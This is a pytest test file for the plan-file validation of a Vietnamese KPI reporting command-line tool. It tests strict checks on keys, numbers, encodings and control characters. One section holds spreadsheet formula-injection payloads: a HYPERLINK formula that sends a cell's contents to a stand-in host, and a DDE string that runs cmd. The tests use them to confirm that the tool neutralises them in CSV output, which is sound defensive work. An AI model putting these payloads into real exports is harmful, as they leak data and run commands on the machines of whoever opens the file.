"""The plan file drives every number, so kpi reads it strictly (issue 20, items 14-17).

A key no table knows, a number that is not finite, a control character, a file in another
encoding, two files of one plan, a selection no part can meet: `kpi plan check` lists each as a
mistake (exit 1), and every command given such a plan with --plan or --plans refuses it with the
same words (exit 2), before anything is computed from it. Plan texts reach CSV cells that no
spreadsheet will run.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from clitools import kpi

from kpi import load_plan
from kpi.plan_schema import TABLES

HERE = Path(__file__).resolve().parent
QUANGNGAI = (HERE.parent / "kpi" / "plans" / "quangngai_2026.toml").read_text(encoding="utf-8")
KONTUM = (HERE.parent / "kpi" / "plans" / "kontum_1583.toml").read_text(encoding="utf-8")
ALPHA = (HERE / "plans" / "alpha.toml").read_text(encoding="utf-8")
GAMMA = (HERE / "plans_other" / "gamma.toml").read_text(encoding="utf-8")
SCHEMA = (HERE.parent / "kpi" / "plans" / "SCHEMA.md").read_text(encoding="utf-8")


def one_line(text: str) -> str:
    return " ".join(text.split())


def edited(text: str, *edits: tuple[str, str], count: int = 1) -> str:
    for old, new in edits:
        assert old in text, old
        text = text.replace(old, new, count)
    return text


def mistakes(output: str) -> list[str]:
    """The listed mistakes of a plan (the lines '- ...', wrapping undone)."""
    return [one_line(m) for m in re.split(r"\n\s*- ", "\n" + output)[1:]]


def refused_everywhere(path: Path, says: str, tmp_path: Path) -> None:
    """`plan check` lists ``says`` as a mistake (exit 1); template, validate, aggregate and plan
    show refuse the plan with --plan and with --plans (exit 2), listing the same mistakes."""
    checked = kpi("plan", "check", path, "--lang", "en")
    assert checked.exit_code == 1, checked.output
    assert says in one_line(checked.output), checked.output
    listed = mistakes(checked.output)
    folder = tmp_path / "plans_dir"
    folder.mkdir(exist_ok=True)
    (folder / path.name).write_bytes(path.read_bytes())
    for option in (["--plan", path], ["--plans", folder]):
        for command in (["template", "--out", tmp_path / "mau"],
                        ["validate", tmp_path / "CA_TINH_2026-08.xlsx"],
                        ["aggregate", tmp_path, "--period", "2026-08"],
                        ["plan", "show"]):
            result = kpi(*command, *option, "--lang", "en")
            assert result.exit_code == 2, (command, option, result.output)
            assert mistakes(result.output) == listed, (command, option, result.output)
    assert not (tmp_path / "mau").exists()


def write(tmp_path: Path, text: str, name: str = "ke_hoach.toml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# --- 14. unknown keys -----------------------------------------------------------------------

@pytest.mark.parametrize(("edit", "says"), [
    # a unit closed by the reform, its active_to mistyped: it would stay expected for ever
    (('code = "H_DAKHA"\n', 'code = "H_DAKHA"\nactiv_to = "2025-06"\n'),
     "agencies[16] H_DAKHA: unknown key 'activ_to' (did you mean active_to?)"),
    (('event = "07-30"', 'evnt = "07-30"'),
     "indicators[7] KPI_307: unknown key 'evnt' (did you mean event?)"),
    (('[plan]\n', '[plan]\nCutoff_day = 14\n'),
     "[plan]: unknown key 'Cutoff_day' (did you mean cutoff_day?)"),
    (('[[forms]]\n', '[[form]]\ncode = "X"\n\n[[forms]]\n'), "unknown table 'form' (did you mean forms?)"),
    (('[report]\n', '[report]\nmucdich = "x"\n'),
     "[report]: unknown key 'mucdich' (known: issuer_parent_vi,"),
])
def test_an_unknown_key_is_a_mistake_naming_the_table_entry_and_nearest_key(tmp_path, edit, says):
    text = edited(QUANGNGAI, edit) if edit[0] in QUANGNGAI else edited(KONTUM, edit)
    refused_everywhere(write(tmp_path, text), says, tmp_path)


def test_a_typo_in_an_option_of_a_category_is_named_with_its_category(tmp_path):
    path = write(tmp_path, edited(GAMMA, ('{ code = "NU", name_vi = "Nữ", name_en = "Female" }',
                                          '{ code = "NU", name_vi = "Nữ", nam_en = "Female" }')))
    result = kpi("plan", "check", path, "--lang", "en")
    assert result.exit_code == 1
    assert "categories[1] GT options[2] NU: unknown key 'nam_en' (did you mean name_en?)" in one_line(
        result.output)
    vi = kpi("plan", "check", path)
    assert "khóa 'nam_en' không có trong định dạng (có phải là name_en?)" in one_line(vi.output)


def test_every_key_of_the_bundled_and_test_plans_is_declared():
    for path in [*(HERE.parent / "kpi" / "plans").glob("*.toml"), *HERE.glob("plans*/*.toml")]:
        load_plan(path)  # raises on an undeclared key


def test_schema_md_documents_every_declared_key_and_says_unknown_keys_are_refused():
    """SCHEMA.md's sections for each table show every key the declaration holds."""
    sections = re.split(r"\n## ", SCHEMA)
    for spec in [*TABLES.values(), TABLES["categories"].key("options").of]:
        assert spec is not None
        heading = "options" if spec.name == "options" else spec.header
        text = "\n".join(s for s in sections if heading in s.split("\n", 1)[0]
                         or (spec.name == "options" and "[[categories]]" in s.split("\n", 1)[0]))
        assert text, f"no section of SCHEMA.md for {spec.header}"
        undocumented = [k for k in spec.names if not re.search(rf"(\b{k}\s*=|`{k}`)", text)]
        assert not undocumented, f"{spec.header}: {undocumented} not in SCHEMA.md"
    assert "unknown key" in one_line(SCHEMA).lower() and "refused" in one_line(SCHEMA)


# --- 15. numbers that are not numbers, control characters, encodings, nesting ------------------

@pytest.mark.parametrize(("edit", "says"), [
    (("comparator = \">=\"\ntarget = 100", "comparator = \">=\"\ntarget = nan"),
     "'target' must be a finite number, not nan"),
    (("comparator = \">=\"\ntarget = 100", "comparator = \">=\"\ntarget = inf"),
     "'target' must be a finite number, not inf"),
    (("factor = 100", "factor = -inf"), "'factor' must be a finite number, not -inf"),
    (("cutoff_day = 14", "cutoff_day = nan"), "'cutoff_day' must be a finite number, not nan"),
    (("numerator = \"TG_PHAN_LOAI\"", "numerator = \"TG_PHAN_LOAI * 1e999\""),
     "a number too large to compute with"),
])
def test_a_number_that_is_not_finite_is_a_mistake(tmp_path, edit, says):
    refused_everywhere(write(tmp_path, edited(KONTUM, edit)), says, tmp_path)


@pytest.mark.parametrize("milestone", ["nan", "inf"])
def test_a_milestone_that_is_not_finite_is_a_mistake(tmp_path, milestone):
    path = write(tmp_path, edited(QUANGNGAI, ("milestones = { 2025 = 90, 2026 = 90 }",
                                              f"milestones = {{ 2025 = 90, 2026 = {milestone} }}")))
    refused_everywhere(path, f"milestone 2026 = {milestone}", tmp_path)


@pytest.mark.parametrize(("edit", "says"), [
    (('title_vi = "Truyền thông về phòng', 'title_vi = "Truyền\\u0007 thông về phòng'),
     "forms[1]: 'title_vi' holds a control character (U+0007, character 7)"),
    (('signer_title_vi = "GIÁM ĐỐC"', 'signer_title_vi = "GIÁM\\u001b[31m ĐỐC"'),
     "[report]: 'signer_title_vi' holds a control character (U+001B"),
    (('recipients_vi = ["Ủy ban', 'recipients_vi = ["\\u0000Ủy ban'),
     "[report]: 'recipients_vi' holds a control character (U+0000, character 1)"),
    (('{ code = "NAM", name_vi = "Nam"', '{ code = "NAM", name_vi = "Na\\u0085m"'),
     "options[1]: 'name_vi' holds a control character (U+0085"),
])
def test_a_control_character_in_a_plan_text_is_a_mistake(tmp_path, edit, says):
    refused_everywhere(write(tmp_path, edited(QUANGNGAI, edit)), says, tmp_path)


def test_line_breaks_and_tabs_in_a_text_stay_allowed(tmp_path):
    """A deputy signs under two lines ("KT. GIÁM ĐỐC\\nPHÓ GIÁM ĐỐC")."""
    path = write(tmp_path, edited(QUANGNGAI, ('signer_title_vi = "GIÁM ĐỐC"',
                                              'signer_title_vi = "KT. GIÁM ĐỐC\\nPHÓ\\tGIÁM ĐỐC"')))
    assert kpi("plan", "check", path).exit_code == 0
    assert load_plan(path).report.signer_title_vi == "KT. GIÁM ĐỐC\nPHÓ\tGIÁM ĐỐC"


@pytest.mark.parametrize("bom", [b"\xef\xbb\xbf", b""])
def test_a_utf8_file_is_read_with_or_without_a_byte_order_mark(tmp_path, bom):
    path = tmp_path / "ke_hoach.toml"
    path.write_bytes(bom + QUANGNGAI.encode("utf-8"))
    result = kpi("plan", "check", path, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert load_plan(path).id == "QUANGNGAI-2026"
    assert kpi("plan", "show", "--plan", path).exit_code == 0


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_file_is_refused_saying_to_save_it_as_utf8(tmp_path, encoding):
    path = tmp_path / "ke_hoach.toml"
    path.write_bytes(QUANGNGAI.encode(encoding))
    refused_everywhere(path, "the file is saved as UTF-16; a plan file is UTF-8", tmp_path)
    assert "hãy lưu lại và chọn bảng mã UTF-8" in one_line(kpi("plan", "check", path).output)


def test_a_file_in_another_encoding_is_refused_naming_the_byte(tmp_path):
    path = tmp_path / "ke_hoach.toml"
    path.write_bytes(QUANGNGAI.encode("utf-8").replace("Quảng Ngãi".encode(), "Qu\xe1ng".encode("cp1258"), 1))
    refused_everywhere(path, "the file is not UTF-8 (byte", tmp_path)


@pytest.mark.parametrize("nested", ["x = " + "[" * 3000 + "]" * 3000,
                                    "y = " + "{ a = " * 3000 + "1" + " }" * 3000])
def test_a_deeply_nested_value_is_refused_with_a_message(tmp_path, nested):
    path = write(tmp_path, f"{nested}\n{ALPHA}")
    refused_everywhere(path, "nested too deeply to be a plan", tmp_path)


# --- 16. one plan id per folder; a selection of two options of one category -----------------

@pytest.mark.parametrize("copy_name", ["alpha - Copy.toml", "alpha_sua.toml"])
def test_two_files_of_one_plan_in_a_plans_folder_are_refused_naming_both(tmp_path, copy_name):
    folder = tmp_path / "plans"
    folder.mkdir()
    for source in (HERE / "plans").glob("*.toml"):
        (folder / source.name).write_bytes(source.read_bytes())
    (folder / copy_name).write_text(ALPHA.replace('title_vi = "', 'title_vi = "(sửa) ', 1), encoding="utf-8")
    for command in (["template", "--out", tmp_path / "mau"], ["aggregate", tmp_path / "nop"],
                    ["validate", tmp_path / "x.xlsx"], ["plan", "show"]):
        result = kpi(*command, "--plans", folder, "--lang", "en")
        assert result.exit_code == 2, result.output
        assert (f"plan ALPHA-2026 is in 2 files: {', '.join(sorted([copy_name, 'alpha.toml']))}"
                in one_line(result.output)), result.output
    vi = kpi("plan", "show", "--plans", folder)
    assert "kế hoạch ALPHA-2026 có trong 2 tệp" in one_line(vi.output)


@pytest.mark.parametrize(("old", "new", "says"), [
    ('numerator = "NN_XD[NU, TE]"', 'numerator = "NN_XD[NU, NAM]"',
     "NN_XD[NAM, NU] selects 2 options of category GT, which no part has"),
    ('expression = "NN_HT[TE] <= NN_XD[TE]"', 'expression = "NN_HT[TE, NL] <= NN_XD[TE]"',
     "for their sum write NN_HT[NL] + NN_HT[TE]"),
    ('numerator = "NN_XD[NU, TE]"', 'numerator = "NN_XD[NU, TE, TE]"', "NN_XD[NU, TE, TE] names TE twice"),
])
def test_a_selection_of_two_options_of_one_category_is_refused(tmp_path, old, new, says):
    path = write(tmp_path, edited(GAMMA, (old, new)))
    refused_everywhere(path, says, tmp_path)


def test_a_selection_across_categories_still_loads():
    plan = load_plan(HERE / "plans_other" / "gamma.toml")
    assert "NN_XD[NU+TE]" in {i.code: i for i in plan.indicators}["NU_TE"].numerator.names


# --- 17. CSV cells a spreadsheet would run ---------------------------------------------------

HOSTILE = {
    "name_vi": '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "element": "+1+2",
    "unit_vi": "-2+3",
}


def hostile_plan(tmp_path: Path) -> Path:
    text = edited(
        KONTUM,
        ('name_vi = "Tỷ lệ tố giác, tin báo, kiến nghị khởi tố được tiếp nhận, phân loại"',
         f"name_vi = '{HOSTILE['name_vi']}'"),
        ('unit = "%"', f"unit = \"{HOSTILE['unit']}\""),
        ('code = "TG_TIEP_NHAN"\nform = "TG"\nname_vi = "',
         f'code = "TG_TIEP_NHAN"\nform = "TG"\nname_vi = "{HOSTILE["element"]}'),
    )
    text = re.sub(r'(code = "TG_TON_DAU_KY"\n(?:.*\n)*?unit_vi = )"[^"]*"',
                  rf'\1"{HOSTILE["unit_vi"]}"', text, count=1)
    return write(tmp_path, text, "hostile.toml")


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("table", ["indicators", "totals"])
def test_plan_texts_reach_csv_cells_that_no_spreadsheet_runs(small_folder, tmp_path, table):
    plan = hostile_plan(tmp_path)
    assert kpi("plan", "check", plan).exit_code == 0  # such texts are allowed, only made inert
    args = ["aggregate", small_folder, "--plan", plan, "--period", "2024-10", "--table", table]
    shown = kpi(*args, "--format", "csv")
    out = tmp_path / "bang.csv"
    written = kpi(*args, "--out", out)
    assert shown.exit_code in (0, 1) and written.exit_code in (0, 1), shown.output
    for text in (shown.stdout, out.read_text(encoding="utf-8-sig")):
        found = cells(text)
        runnable = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                    and not re.fullmatch(r"-\d+(\.\d+)?", c)]
        assert not runnable, runnable
        quoted = {"indicators": [HOSTILE["name_vi"], HOSTILE["unit"]],
                  "totals": [HOSTILE["element"], HOSTILE["unit_vi"]]}[table]
        for hostile in quoted:  # kept whole, after an apostrophe
            assert [c for c in found if c.startswith("'" + hostile)], (hostile, text[:800])


@pytest.mark.parametrize(("value", "cell"), [
    ("-5", "-5"), ("-0.25", "-0.25"), ("+3", "+3"), ("-1e3", "-1e3"), ("=1+1", "'=1+1"),
    ("-1+2", "'-1+2"), ("@A1", "'@A1"), ("\rX", "'\rX"), ("\nX", "'\nX"), ("a=1", "a=1"), (7, 7),
])
def test_a_number_stays_a_number_and_a_formula_is_quoted(value, cell):
    from kpi.render import csv_cell

    assert csv_cell(value) == cell


def test_the_declaration_says_which_keys_the_reader_requires():
    """Each key of each table, taken out of the first entry of a sound plan that has it: the
    reader misses it exactly when the declaration says it is required (conditions aside)."""
    import copy
    import tomllib

    from kpi.plan_load import build_from

    sources = [tomllib.loads(text) for text in (QUANGNGAI, KONTUM, GAMMA)]
    checked = 0
    for spec in TABLES.values():
        for key in spec.keys:
            if isinstance(key.required, str):
                continue  # required in some cases only; its own tests hold those
            for data in sources:
                data = copy.deepcopy(data)
                entries = data.get(spec.name)
                entries = entries if spec.many else [entries]
                holder = next((e for e in entries or [] if isinstance(e, dict) and key.name in e), None)
                if holder is None:
                    continue
                del holder[key.name]
                _, problems = build_from(data)
                said = [p.en for p in problems if f"'{key.name}'" in p.en]
                if key.required:
                    assert said, f"{spec.header} {key.name}: declared required, not missed"
                else:
                    assert not [p for p in said if "missing" in p], (spec.header, key.name, said)
                checked += 1
                break
    assert checked > 60
